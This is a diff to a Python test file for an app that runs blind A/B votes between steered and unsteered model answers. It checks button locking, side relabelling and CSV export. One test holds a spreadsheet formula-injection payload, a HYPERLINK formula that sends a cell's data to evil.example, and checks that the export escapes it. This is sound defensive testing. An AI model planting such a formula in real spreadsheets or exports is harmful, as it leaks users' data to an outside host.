@@ -234,12 +234,17 @@ def test_full_disk_and_read_only_database_are_messages(studio, tmp_path):
 def test_blind_ab_vote_results_and_csv(studio):
     seen_sides = set()
     for i in range(6):
-        a, b, trial, note = studio.ab_generate(KENJI, "Plan my Friday evening", 20, 10, 2, 2, 1, 0, 1, None, 8)
+        a, b, trial, note, *buttons = studio.ab_generate(KENJI, "Plan my Friday evening", 20, 10, 2, 2, 1, 0, 1, None, 8)
+        assert [u["interactive"] for u in buttons] == [True] * 4  # unlocked only once both answers are there
+        a, b = a["value"], b["value"]
         seen_sides.add(trial["steered_side"])
         steered = a if trial["steered_side"] == "A" else b
         assert trial["a"] == a and trial["b"] == b and steered != (b if steered == a else a)
-        reveal, cleared = studio.cast_vote("rita", trial, ["A", "B", "tie", "both_bad", "A", "B"][i])
+        reveal, cleared, label_a, label_b, *buttons = studio.cast_vote("rita", trial, ["A", "B", "tie", "both_bad", "A", "B"][i])
         assert "was steered (CoSteer)" in reveal and cleared is None
+        assert [u["interactive"] for u in buttons] == [False] * 4  # locked again after the vote
+        steered_label = label_a if trial["steered_side"] == "A" else label_b
+        assert steered_label["label"].endswith("steered (CoSteer)")  # the sides are relabelled
     assert seen_sides == {"A", "B"}  # the order is randomized per trial
     with pytest.raises(Refused, match="generate a pair"):
         studio.cast_vote("rita", None, "A")
@@ -256,7 +261,7 @@ def test_blind_ab_vote_results_and_csv(studio):
 
 def test_votes_csv_does_not_carry_formulas(studio):
     formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
-    studio.rate(formula, KENJI, "hi", "+1", "@SUM(A1)", "A", "A")
+    studio.store.add_vote(formula, KENJI, [{"role": "user", "content": "hi"}], "+1", "@SUM(A1)", "A", "A", {})
     with open(studio.votes_csv(), newline="", encoding="utf-8") as f:
         row = list(csv.DictReader(f))[-1]
     assert row["rater"] == "'" + formula and row["answer_a"] == "'+1" and row["answer_b"] == "'@SUM(A1)"
